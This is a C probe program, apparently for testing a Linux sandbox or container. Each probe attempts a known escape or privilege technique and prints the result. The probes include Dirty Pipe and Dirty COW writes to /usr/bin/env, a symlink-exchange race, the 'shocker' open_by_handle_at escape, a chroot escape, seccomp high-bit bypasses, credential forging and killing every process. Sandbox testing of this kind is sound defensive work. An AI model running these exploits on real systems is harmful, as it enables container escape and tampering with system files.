/* Attempts that need threads, machine registers or exact system calls. Run as `probe NAME`, each prints what it got: the
 * name of an errno, or a word. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int say(long result) {
	if (result < 0)
		printf("%s\n", strerrorname_np(errno));
	else
		printf("%ld\n", result);
	return 0;
}

static volatile int stop;

/* CVE-2021-30465, CVE-2017-1002101: a directory and a link to the root change places while another opens through them. */
static void *exchange(void *unused) {
	(void)unused;
	while (!stop)
		syscall(SYS_renameat2, AT_FDCWD, "/tmp/a", AT_FDCWD, "/tmp/b", 2 /* RENAME_EXCHANGE */);
	return NULL;
}

static int race_links(void) {
	struct stat root, seen;
	pthread_t other;
	int out = 0;
	mkdir("/tmp/a", 0755);
	mkdir("/tmp/a/dir", 0755);
	if (symlink("../../../../../../..", "/tmp/b") || stat("/", &root))
		return say(-1);
	pthread_create(&other, NULL, exchange, NULL);
	for (int i = 0; i < 20000; i++) {
		int fd = open("/tmp/a/dir/../../../../../..", O_PATH | O_DIRECTORY);
		if (fd < 0)
			continue;
		if (fstat(fd, &seen) || seen.st_dev != root.st_dev || seen.st_ino != root.st_ino)
			out++;
		close(fd);
	}
	stop = 1;
	pthread_join(other, NULL);
	return say(out);
}

/* A descriptor opened before a chroot leads out of it: so there is no chroot. */
static int leave_chroot(void) {
	int fd = open("/", O_RDONLY | O_DIRECTORY);
	if (fd < 0)
		return say(-1);
	return say(chroot("/tmp"));
}

/* The arguments of clone3 are in memory, where a filter cannot see them. */
static int clone3_namespace(void) {
	uint64_t arguments[11] = {CLONE_NEWUSER | CLONE_NEWNS, 0, 0, 0, SIGCHLD};
	return say(syscall(SYS_clone3, arguments, sizeof arguments));
}

/* Flags above the 32 bits that one filter or another looked at. */
static int clone_high_bits(void) {
	return say(syscall(SYS_clone, 0xffffffff00000000UL | CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
}

static int socket_high_bits(void) { return say(syscall(SYS_socket, 0x100000011UL /* AF_PACKET */, SOCK_RAW, 0)); }

/* A file without a name is run: it has the same rights as any. */
static int run_memory(void) {
	char buffer[65536];
	ssize_t n;
	int memory = memfd_create("x", 0), id = open("/usr/bin/id", O_RDONLY);
	if (memory < 0 || id < 0)
		return say(-1);
	while ((n = read(id, buffer, sizeof buffer)) > 0)
		if (write(memory, buffer, n) != n)
			return say(-1);
	fchmod(memory, 06755);
	fflush(stdout);
	char *args[] = {"id", "-u", NULL}, *env[] = {NULL};
	syscall(SYS_execveat, memory, "", args, env, AT_EMPTY_PATH);
	return say(-1);
}

static int trace_child(void) {
	pid_t child = fork();
	if (child == 0) {
		pause();
		_exit(0);
	}
	say(ptrace(PTRACE_ATTACH, child, NULL, NULL));
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	return 0;
}

static int read_child(void) {
	static char secret[16] = "secret", seen[16];
	pid_t child = fork();
	if (child == 0) {
		pause();
		_exit(0);
	}
	struct iovec here = {seen, sizeof seen}, there = {secret, sizeof secret};
	say(process_vm_readv(child, &here, 1, &there, 1, 0));
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	return 0;
}

/* Credentials in a message say who sends, unless one may say otherwise. */
static int forge_sender(void) {
	int pair[2], on = 1;
	if (socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) || setsockopt(pair[1], SOL_SOCKET, SO_PASSCRED, &on, sizeof on))
		return say(-1);
	struct ucred root = {1, 0, 0};
	union {
		struct cmsghdr header;
		char space[CMSG_SPACE(sizeof root)];
	} control = {0};
	struct iovec data = {"x", 1};
	struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
	struct cmsghdr *c = CMSG_FIRSTHDR(&message);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_CREDENTIALS;
	c->cmsg_len = CMSG_LEN(sizeof root);
	memcpy(CMSG_DATA(c), &root, sizeof root);
	return say(sendmsg(pair[0], &message, 0));
}

/* CVE-2022-0847: the pages of a pipe that was read from a file are written. */
static int dirty_pipe(void) {
	int pipes[2], file = open("/usr/bin/env", O_RDONLY);
	char before[8], after[8], fill[4096];
	memset(fill, 0, sizeof fill);
	if (file < 0 || pipe(pipes) || pread(file, before, 8, 1) != 8)
		return say(-1);
	for (int left = fcntl(pipes[1], F_GETPIPE_SZ); left > 0; left -= sizeof fill)
		if (write(pipes[1], fill, sizeof fill) < 0)
			return say(-1);
	for (int left = fcntl(pipes[1], F_GETPIPE_SZ); left > 0; left -= sizeof fill)
		if (read(pipes[0], fill, sizeof fill) < 0)
			return say(-1);
	loff_t offset = 0;
	if (splice(file, &offset, pipes[1], NULL, 1, 0) < 1 || write(pipes[1], "hacked!!", 8) != 8)
		return say(-1);
	return say(pread(file, after, 8, 1) != 8 || memcmp(before, after, 8) != 0);
}

static volatile char *page;

static void *discard(void *unused) {
	(void)unused;
	while (!stop)
		madvise((void *)page, 4096, MADV_DONTNEED);
	return NULL;
}

/* CVE-2016-5195: a private copy of a read-only file is discarded while it is written. */
static int dirty_cow(void) {
	int file = open("/usr/bin/env", O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
	char before[8], after[8];
	pthread_t other;
	if (file < 0 || pread(file, before, 8, 0) != 8)
		return say(-1);
	page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
	pthread_create(&other, NULL, discard, NULL);
	for (int i = 0; i < 20000 && memory >= 0; i++)
		if (pwrite(memory, "hacked!!", 8, (off_t)page) < 0)
			break;
	stop = 1;
	pthread_join(other, NULL);
	return say(pread(file, after, 8, 0) != 8 || memcmp(before, after, 8) != 0);
}

/* CVE-2016-0728 and others: keyrings. */
static int keyring(void) { return say(syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, -5 /* the user's session */, 1)); }

static int perf(void) {
	uint32_t attributes[32] = {1 /* software */, sizeof attributes};
	return say(syscall(SYS_perf_event_open, attributes, 0, -1, -1, 0));
}

static int bpf_map(void) {
	uint32_t attributes[32] = {1, 4, 4, 1};
	return say(syscall(SYS_bpf, 0, attributes, sizeof attributes));
}

static int page_faults(void) { return say(syscall(SYS_userfaultfd, 1 /* user mode only */)); }

static int uring(void) {
	char parameters[120] = {0};
	return say(syscall(SYS_io_uring_setup, 8, parameters));
}

/* Open by handle: the "shocker" that read the host's files. */
static int by_handle(void) {
	struct {
		unsigned bytes;
		int type;
		unsigned char handle[8];
	} root = {8, 1, {2}};
	return say(syscall(SYS_open_by_handle_at, open("/etc/passwd", O_RDONLY), &root, O_RDONLY));
}

static int stop_everybody(void) {
	signal(SIGUSR1, SIG_IGN);
	say(kill(-1, SIGUSR1));
	return say(kill(1, SIGKILL));
}

/* A directory and a link to target change places until this process is killed; it says which directory that is. */
static int exchange_with(const char *target) {
	struct stat seen;
	mkdir("/tmp/raced", 0755);
	rmdir("/tmp/raced/a");
	unlink("/tmp/raced/a");
	rmdir("/tmp/raced/b");
	unlink("/tmp/raced/b");
	if (mkdir("/tmp/raced/a", 0755) || stat("/tmp/raced/a", &seen) || symlink(target, "/tmp/raced/b"))
		return say(-1);
	say(seen.st_ino);
	fflush(stdout);
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, "/tmp/raced/a", AT_FDCWD, "/tmp/raced/b", 2 /* RENAME_EXCHANGE */);
}

static int here(void) {
	struct stat seen;
	return say(stat(".", &seen) ? -1 : (long)seen.st_ino);
}

int main(int argc, char **argv) {
	static const struct {
		const char *name;
		int (*run)(void);
	} probes[] = {
		{"race-links", race_links}, {"leave-chroot", leave_chroot}, {"clone3-namespace", clone3_namespace},
		{"clone-high-bits", clone_high_bits}, {"socket-high-bits", socket_high_bits}, {"run-memory", run_memory},
		{"trace-child", trace_child}, {"read-child", read_child}, {"forge-sender", forge_sender}, {"dirty-pipe", dirty_pipe},
		{"dirty-cow", dirty_cow}, {"keyring", keyring}, {"perf", perf}, {"bpf-map", bpf_map}, {"page-faults", page_faults},
		{"uring", uring}, {"by-handle", by_handle}, {"stop-everybody", stop_everybody},
		{"here", here},
	};
	if (argc > 2 && !strcmp(argv[1], "exchange"))
		return exchange_with(argv[2]);
	for (size_t i = 0; argc > 1 && i < sizeof probes / sizeof *probes; i++)
		if (!strcmp(argv[1], probes[i].name))
			return probes[i].run();
	return 2;
}
